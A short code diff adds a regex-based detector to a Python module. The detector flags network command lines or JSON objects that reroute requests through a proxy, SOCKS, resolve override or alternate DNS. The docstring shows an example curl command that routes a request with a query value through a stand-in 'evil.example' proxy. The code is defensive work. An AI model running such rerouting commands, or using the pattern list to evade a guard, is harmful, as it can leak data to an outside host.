@@ -299,3 +299,15 @@ def mailbox(text: str, start: int, end: int) -> str | None:
         return None
     lead = _LOCAL_BEFORE.search(text, 0, start)
     return (lead.group() if lead is not None else "") + whole.removesuffix(".")
+
+
+# What sends a command line's (or a JSON object's) requests elsewhere than their URLs' hosts: a proxy (`-x`,
+# `--proxy`, `--preproxy`, `--socks5`, `https_proxy=`, a `proxy` key), a resolve or connect-to override, another DNS.
+_REROUTED = re.compile(r"(?i)proxy|socks|--resolve|--connect-to|--doh-url|--dns-servers|--interface|(?:^|[\s\"'])-x")
+
+
+def rerouted(line: str) -> bool:
+    """Whether `line` (a network command line or a JSON object naming a host: `proxy.guard.urls.kept_spans`) may send
+    its requests through another host than its URLs' (`curl -x http://evil.example:8080 https://x.example/?u=...`):
+    a URL the client sent there is not restored (restoreown15)."""
+    return _REROUTED.search(line) is not None
